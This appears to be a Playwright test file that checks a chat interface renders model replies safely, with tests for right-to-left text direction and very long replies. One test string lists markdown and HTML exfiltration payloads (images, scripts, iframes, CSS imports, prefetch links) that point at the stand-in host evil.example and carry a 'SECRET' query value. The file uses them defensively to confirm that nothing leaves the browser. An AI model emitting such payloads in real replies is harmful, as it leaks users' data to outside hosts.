"""Whatever a model writes, the chat shows it safely and the right way round."""

from __future__ import annotations

import pytest
from playwright.async_api import Page, Request, expect

from tests.support.chromium import RunningServer
from tests.support.workspace_page import REPLY_MS, say

pytestmark = pytest.mark.browser

_LEAKS = """
Inline ![x](https://evil.example/p.png?q=SECRET) image.

Reference ![x][r] style.

Protocol-relative ![x](//evil.example/p.png?q=SECRET).

Raw <img src="https://evil.example/p.png?q=SECRET" alt="x"> tag.

<img src="https://evil.example/block.png?q=SECRET">

<svg><image href="https://evil.example/svg.png"/></svg>
<video src="https://evil.example/v.mp4" poster="https://evil.example/v.png"></video>
<link rel="stylesheet" href="https://evil.example/a.css">
<style>@import url(https://evil.example/b.css);</style>
<iframe src="https://evil.example/"></iframe>
<script src="https://evil.example/s.js"></script>
<link rel="prefetch" href="https://evil.example/pre?q=SECRET">
<link rel="dns-prefetch" href="//evil.example">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<div style="background:url(https://evil.example/bg.png?q=SECRET)">styled</div>
<picture><source srcset="https://evil.example/s.png?q=SECRET 2x"></picture>
<object data="https://evil.example/o.svg"></object>
<input type="image" src="https://evil.example/i.png">

[![x](https://evil.example/p.png?q=SECRET)](https://evil.example/page)

[r]: https://evil.example/p.png?q=SECRET
"""


async def test_no_image_and_nothing_else_of_a_reply_leaves_the_browser(
    workspace: Page, server: RunningServer
):
    outside: list[str] = []

    def note(request: Request) -> None:
        if not request.url.startswith((server.origin, server.preview_origin, "data:")):
            outside.append(request.url)

    workspace.context.on("request", note)
    message = await say(workspace, server, _LEAKS)
    await expect(
        message.locator("img, video, iframe, script, link, style")
    ).to_have_count(0)
    await expect(message.locator(".blocked-image")).to_have_count(6)
    await expect(
        message.get_by_text("Image from evil.example, not loaded").first
    ).to_be_visible()
    button = message.get_by_role("link", name="Open image in a new tab").first
    assert await button.get_attribute("rel") == "noopener noreferrer"
    assert outside == []


_DIRECTIONS = """
مرحبا بكم في Vitrail اليوم، انخفض السعر -3.5% أمس.

This is an English paragraph.

- שלום עולם
- עוד שורה

```js
const a = 1; // تعليق
```

**重要：**本文です
"""


async def test_each_block_has_its_direction_and_code_is_left_to_right(
    workspace: Page, server: RunningServer
):
    message = await say(workspace, server, _DIRECTIONS)
    directions = await message.locator(
        ".prose-section > :not(.prose-section)"
    ).evaluate_all(
        "all => all.map((one) => [one.tagName, getComputedStyle(one).direction])"
    )
    assert directions == [
        ["P", "rtl"],
        ["P", "ltr"],
        ["UL", "rtl"],
        ["FIGURE", "ltr"],
        ["P", "ltr"],
    ]
    await expect(message.locator("strong")).to_have_text("重要：")
    sign, digit = await message.locator("bdi", has_text="-3.5%").evaluate(
        """(one) => [0, 1].map((at) => {
          const range = document.createRange();
          const text = one.querySelector('span')?.firstChild ?? one.firstChild;
          range.setStart(text, at);
          range.setEnd(text, at + 1);
          return range.getBoundingClientRect().x;
        })"""
    )
    assert sign < digit


async def test_a_very_long_reply_is_shown_to_its_end(
    workspace: Page, server: RunningServer
):
    paragraph = "A sentence with **some** `code` and a [link](https://example.org).\n\n"
    message = await say(workspace, server, paragraph * 4_000)
    await expect(message.locator("p strong")).to_have_count(4_000, timeout=REPLY_MS)
